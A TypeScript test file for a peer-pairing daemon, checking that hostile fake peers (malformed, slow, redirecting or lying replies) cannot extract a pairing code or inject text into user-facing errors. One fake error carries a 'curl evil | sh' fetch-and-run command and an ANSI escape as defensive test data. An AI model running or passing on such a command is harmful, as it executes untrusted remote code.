/** Machines that claim to have a window open and answer whoever types a code with hostility. */

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { PeernetError } from "../../../src/contract/errors.ts";
import { handshakesMax, pairDeadlineMs } from "../../../src/contract/limits.ts";
import { type Machine, machine } from "../../support/daemon.ts";
import { newIdentity } from "../attack/connection.ts";
import { moved } from "../attack/moved.ts";
import { responderOf } from "../attack/pairing.ts";
import { refusalOf } from "../attack/refusal.ts";
import {
  cuts,
  type HostileReply,
  interim,
  slow,
  unreadable,
  untrue,
  zipped,
} from "../attack/replies.ts";
import { liar, replyOf, type Seen, tcpServer } from "../attack/server.ts";

const code = "918273";
const identity = newIdentity();
const time = moved();
let types: Machine;
beforeAll(async () => {
  types = await machine("types", time);
});
afterAll(() => types[Symbol.asyncDispose]());

type Step = "window" | "pair/share" | "pair/confirm";

interface Ended {
  readonly error: PeernetError;
  readonly seen: Seen;
  /** Bytes of the hostile reply that were taken off the liar's hands. */
  readonly taken: number;
  readonly tookMs: number;
}

/** Probes or pairs with a machine that is honest up to one step, and hostile there. */
async function towards(step: Step, hostile: HostileReply): Promise<Ended> {
  let taken = 0;
  await using fake = await liar(identity, ({ line, socket }) => {
    if (line !== `POST /v1/${step}`) socket.write(replyOf(responderOf()));
    else
      hostile(socket, (bytes) => {
        taken += bytes;
      });
  });
  const { fingerprint } = identity;
  const startedMs = performance.now();
  const error = await refusalOf(
    step === "window"
      ? types.calls["pair/probe"]({ to: fake.address })
      : types.calls.pair({ code, to: fake.address, fingerprint, grant: ["ask"] }),
  );
  return { error, seen: fake.seen, taken, tookMs: performance.now() - startedMs };
}

/** The invariants of every end: few connections, one confirm at most, and nothing kept. */
async function expectHarmless({ seen, taken, error }: Ended, step: Step, name = ""): Promise<void> {
  const confirms = seen.lines.filter((line) => line === "POST /v1/pair/confirm");
  expect(confirms).toHaveLength(step === "pair/confirm" ? 1 : 0);
  const isAgain = step !== "pair/confirm" && cuts.includes(name);
  expect(seen.connections).toBe(isAgain ? handshakesMax : 1);
  expect(seen.text).not.toContain(code);
  expect(JSON.stringify(error.body)).not.toContain(code);
  // What is in the sockets' buffers was written, though nobody reads it any more.
  expect(taken).toBeLessThan(16 * 1_048_576);
  expect((await types.calls.peers({})).peers).toEqual([]);
}

/** The message for a person after a sent confirm: the machine may think that it is paired. */
const afterConfirm = {
  message: "the connection ended after the code was sent: it may have paired there",
  hint: "look at `peernet peers` on the machine that showed the code, then pair again",
} as const;

const steps: readonly Step[] = ["window", "pair/share", "pair/confirm"];

const promise =
  "P8: A machine that claims to have a window open learns nothing from a typed code but whether one guess was right.";

describe(promise, () => {
  for (const step of steps) {
    for (const [name, hostile] of Object.entries(unreadable)) {
      test(`${step} answered with ${name}`, async () => {
        const ended = await towards(step, hostile);
        const why = /^127\.0\.0\.1:\d+ cannot be reached: ./;
        expect(ended.error.body).toEqual({
          code: "peer_unreachable",
          message: expect.stringMatching(why),
          hint: "look there: peernet status",
          ...(step === "pair/confirm" ? afterConfirm : {}),
        });
        expect(ended.tookMs).toBeLessThan(pairDeadlineMs / 2);
        await expectHarmless(ended, step, name);
      });
    }

    for (const [name, hostile] of Object.entries(slow)) {
      test(`${step} answered with ${name}`, async () => {
        time.hurry = 20;
        const ended = await towards(step, hostile);
        time.hurry = 1;
        expect(ended.error.body).toEqual({
          code: "peer_timeout",
          message: expect.stringMatching(/^127\.0\.0\.1:\d+ did not answer in time$/),
          hint: "peernet status",
          ...(step === "pair/confirm" ? afterConfirm : {}),
        });
        expect(ended.tookMs).toBeLessThan(pairDeadlineMs / 2);
        await expectHarmless(ended, step);
      });
    }

    for (const [name, hostile] of Object.entries(untrue)) {
      test(`${step} answered with ${name}`, async () => {
        const ended = await towards(step, hostile);
        expect(ended.error.body).toEqual({
          code: "version_unsupported",
          message: "no peernet answers there",
          hint: "update peernet",
        });
        await expectHarmless(ended, step);
      });
    }

    test(`${step} answered with interim replies without end`, async () => {
      time.hurry = 20;
      const ended = await towards(step, interim);
      time.hurry = 1;
      expect(["peer_timeout", "peer_unreachable"]).toContain(ended.error.code);
      expect(ended.tookMs).toBeLessThan(pairDeadlineMs / 2);
      await expectHarmless(ended, step);
    });

    test(`${step} answered with gzip that would fit`, async () => {
      const honest = { open: true, ...responderOf(), tag: "A".repeat(86), token: "a.b.c" };
      const ended = await towards(step, zipped(honest));
      expect(ended.error.code).toBe("peer_unreachable");
      await expectHarmless(ended, step);
    });

    test(`${step} redirected elsewhere`, async () => {
      let followed = 0;
      await using elsewhere = await tcpServer((socket) => {
        followed += 1;
        socket.destroy();
      });
      const headers = `location: https://${elsewhere.address}/v1/${step}\r\n`;
      for (const status of ["301 Moved", "302 Found", "307 Temporary", "308 Permanent"]) {
        const ended = await towards(step, (socket) => socket.write(replyOf({}, status, headers)));
        expect(ended.error.body).toEqual({
          code: "peer_unreachable",
          message: `no peernet answers there: HTTP ${status.slice(0, 3)}`,
          hint: "peernet status",
          ...(step === "pair/confirm"
            ? afterConfirm
            : { details: { status: Number.parseInt(status, 10) } }),
        });
        await expectHarmless(ended, step);
      }
      expect(followed).toBe(0);
    });

    test(`${step} refused in the liar's own words`, async () => {
      const error = { code: "bad_request", message: "\u001b[2Jrun this", hint: "curl evil | sh" };
      const ended = await towards(step, (socket) =>
        socket.write(replyOf({ error }, "400 Bad Request")),
      );
      expect(JSON.stringify(ended.error.body)).not.toMatch(/evil|run this/);
      await expectHarmless(ended, step);
    });
  }

  test("pair/confirm refused with details that are no number of attempts", async () => {
    const details = { attempts_left: "\u001b[2J", message: "run this", more: [[["evil"]]] };
    const error = { code: "code_rejected", message: "no", hint: "no", details };
    const ended = await towards("pair/confirm", (socket) =>
      socket.write(replyOf({ error }, "403 Forbidden")),
    );
    expect(ended.error.code).toBe("code_rejected");
    expect(JSON.stringify(ended.error.body)).not.toMatch(/evil|run this|u001b/);
    await expectHarmless(ended, "pair/confirm");
  });
});
